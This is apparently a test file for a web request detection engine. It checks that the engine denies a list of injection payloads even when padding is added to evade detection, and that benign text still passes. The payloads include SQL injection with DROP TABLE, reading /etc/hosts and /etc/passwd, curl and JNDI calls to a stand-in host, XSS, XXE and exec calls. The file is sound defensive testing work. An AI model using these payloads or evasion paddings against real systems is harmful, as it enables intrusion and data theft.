import { DetectionEngine } from '../../../lib/detection/detection-engine';

const engine = new DetectionEngine();
const denies = (field: string, text: string) =>
  engine.inspect({
    method: 'POST',
    path: '/items',
    queryString: '',
    headers: { 'content-type': 'application/json' },
    body: { [field]: text },
    files: undefined,
    route: undefined,
  })?.denies === true;

const page = `The shop opens at nine in the morning and closes at six.
Every order leaves the house on the day on which it is paid.
Parcels that come back are looked at by two of us.
Whoever waits for longer than a week may write to the office.
A letter of complaint is answered by the owner in person.
Nobody has ever asked for the money a second time.`;
const filler = 'one line that is as good as any other\n'.repeat(60);
const counted = Array.from({ length: 60 }, (_, i) => `line number ${i} of this padding\n`).join('');
const long = `${page}\n`.repeat(30);

/** An attack of each family that breaks out of what stands round it. */
const attacks: Record<string, string> = {
  sqli: "x' union select name, pin from cards-- -",
  'sqli that stacks': "x'; drop table invoices--",
  command: '; cat /etc/hosts #',
  'command substituted': '$(curl http://a.example/x)',
  template: '{{9*9}}',
  'template call': "<%= system('id') %>",
  xss: '"><svg/onload=go()>',
  'xss in a script': "';alert(1)//",
  node: "require('child_process').exec('id')",
  php: "<?php system('id'); ?>",
  java: "java.lang.Runtime.getRuntime().exec('id')",
  lookup: '${jndi:ldap://a.example/x}',
  ldap: '*)(uid=*))(|(uid=*',
  ssi: '<!--#exec cmd="id" -->',
  nosqli: '{"$where":"sleep(2000)"}',
  traversal: '../../../../etc/passwd',
  xxe: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>',
};

const paddings: Record<string, (attack: string) => string> = {
  'line feeds behind it': (attack) => attack + '\n'.repeat(300),
  'line feeds before it': (attack) => '\n'.repeat(300) + attack,
  'line feeds for several windows': (attack) => `x${'\n'.repeat(9000)}${attack}${'\n'.repeat(9000)}x`,
  'the same line many times': (attack) => `${filler}${attack}\n${filler}`,
  'lines that differ in numbers': (attack) => `${counted}${attack}\n${counted}`,
  'a page of prose behind it': (attack) => `${attack}\n${page}`,
  'a page of prose before it': (attack) => `${page}\n${attack}`,
  'many pages before it': (attack) => `${long}${attack}`,
};

describe.each(Object.entries(attacks))('%s', (_family, attack) => {
  it.each(Object.entries(paddings))('is denied with %s', (_padding, pad) => {
    expect(denies('comment', pad(attack))).toBe(true);
  });

  it.each(['id', 'host', 'filename', 'userEmail', 'redirect_url', 'lang'])(
    'is denied inside of a page, in a field for one line: %s',
    (field) => {
      expect(denies(field, `${page}\n${attack}\n${page.replaceAll('e', 'a')}`)).toBe(true);
    },
  );
});

const sample = (code: string) => `${page}\n\n${code}\n\n${page.replaceAll('e', 'a')}`;

it.each([
  'ls -la; cat /etc/hosts | grep -v local',
  'Hi {{ user.name | upper }}, {% if paid %}thanks{% endif %}',
  "const { exec } = require('child_process'); process.exit(1);",
  "SELECT name FROM orders WHERE state = 'open' OR state = 'paid';",
  'HTTP/1.1 302 Found\nLocation: /home',
])('lets a text pass that shows %s', (code) => {
  expect(denies('body', sample(code))).toBe(false);
});
